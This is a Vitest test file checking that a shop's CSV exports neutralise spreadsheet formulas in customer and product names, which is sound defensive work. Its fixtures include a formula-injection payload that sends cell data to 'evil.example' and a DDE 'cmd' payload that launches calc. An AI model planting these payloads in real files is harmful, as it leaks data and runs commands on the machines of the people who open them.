// Issue 23, finding 2: every CSV the shop exports writes its cells through one writer that neutralises
// formulas, so a customer's or a product's name never runs in the accountant's spreadsheet.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { localDate } from '#src/lib/shop-time.ts';
import { csvCell, csvCellText } from '#src/lib/csv.ts';
import { buildTestApp, type TestApp } from '../helpers/app.ts';
import { makeProduct } from '../helpers/factories.ts';
import { makeApiOrder, signIn, type AdminClient } from '../helpers/admin.ts';

const EVIL_NAME = '=HYPERLINK("https://evil.example/?leak="&E2&F2)';
const EVIL_PRODUCT = '@SUM(1+1)*cmd|\' /C calc\'!A0';
let t: TestApp;
let owner: AdminClient;

beforeAll(async () => {
  t = await buildTestApp({ SHOP_VAT_REGISTERED: 'true', DATA_DIR: `/tmp/talad-sec-exports-${process.pid}` });
  owner = await signIn(t.app, 'owner@example.com', 'correct horse battery');
  await makeProduct(t.database.db, { sku: 'FX-1', nameTh: EVIL_PRODUCT, nameEn: '+1+1', price: 10_700, stock: { MAIN: 50 } });
  await makeProduct(t.database.db, { sku: 'FX-2', nameTh: 'ชาไทย', nameEn: '-2+3', price: 5_000, stock: { MAIN: 50 } });
  await makeApiOrder(t.app, 'FX-1', { status: 'paid', customer: { name: EVIL_NAME, phone: '0812223333' } });
  await makeApiOrder(t.app, 'FX-2', { status: 'paid', customer: { name: '\tวิภา @บ้าน', phone: '0894445555' } });
});
afterAll(() => t?.close());

/** No cell of the file would be run by a spreadsheet: none starts with = + - @ tab or CR unless it is a plain number. */
function expectInert(csv: string) {
  const rows: string[][] = parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true });
  expect(rows.length).toBeGreaterThan(1);
  for (const cell of rows.flat()) {
    if (/^[-+]?\d+(\.\d+)?$/.test(cell)) continue;
    expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  }
  return rows;
}

describe('CSV exports', () => {
  const today = () => localDate(new Date(), t.config.shop.timeZone);

  it('neutralises formulas in the ledger, the accounting export and the products export', async () => {
    const ledger = await owner.get(`/admin/finance/ledger.csv?from=${today()}&to=${today()}`);
    expect(ledger.statusCode).toBe(200);
    expect(expectInert(ledger.body).flat()).toContain(`'${EVIL_NAME}`);

    const accounting = await owner.get(`/admin/finance/export.csv?from=${today()}&to=${today()}&kind=all`);
    expect(accounting.statusCode).toBe(200);
    const cells = expectInert(accounting.body).flat();
    expect(cells).toContain(`'${EVIL_PRODUCT}`);
    // Refunds and other negative amounts stay numbers.
    expect(cells.some((c) => /^\d+\.\d\d$/.test(c))).toBe(true);

    const products = await owner.get('/admin/products/export.csv');
    expect(products.statusCode).toBe(200);
    const rows = expectInert(products.body);
    expect(rows.flat()).toEqual(expect.arrayContaining([`'${EVIL_PRODUCT}`, "'+1+1", "'-2+3"]));
  });

  it('reads back what it wrote: the apostrophe before a formula is dropped on import, other text is kept', () => {
    for (const s of [EVIL_NAME, '+66812345678', '-330.00', "'quoted", 'ชาไทย', '\tแท็บ']) expect(csvCellText(csvCell(s))).toBe(s);
    expect(csvCell('-330.00')).toBe('-330.00');
  });
});
